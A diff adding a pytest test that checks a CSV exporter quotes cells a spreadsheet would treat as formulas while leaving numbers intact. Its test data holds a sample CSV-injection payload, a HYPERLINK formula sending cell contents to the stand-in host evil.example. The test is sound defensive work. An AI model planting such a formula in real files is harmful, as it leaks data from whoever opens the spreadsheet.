@@ -269,3 +269,20 @@ def test_semicolons_and_utf16_get_a_hint() -> None:
     utf16 = "unit_id,name,parent_id\nA,B,\n".encode("utf-16")
     with pytest.raises(ImportRejected, match="UTF-16"):
         read_csv(utf16, "units.csv", required=("unit_id",))
+
+
+def test_text_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers() -> None:
+    import csv
+    import io
+
+    from engage.csvio import export_csv
+
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+    text = export_csv(
+        ["unit_name", "value", "note"],
+        [[evil, -0.25, "+1 more"], ["@SUM(A1)", 3, "\tx"], ["Harbour - east", -1, "-"]],
+    )
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1] == ["'" + evil, "-0.25", "'+1 more"]
+    assert rows[2] == ["'@SUM(A1)", "3", "'\tx"]
+    assert rows[3] == ["Harbour - east", "-1", "'-"]  # only a leading sign is a formula
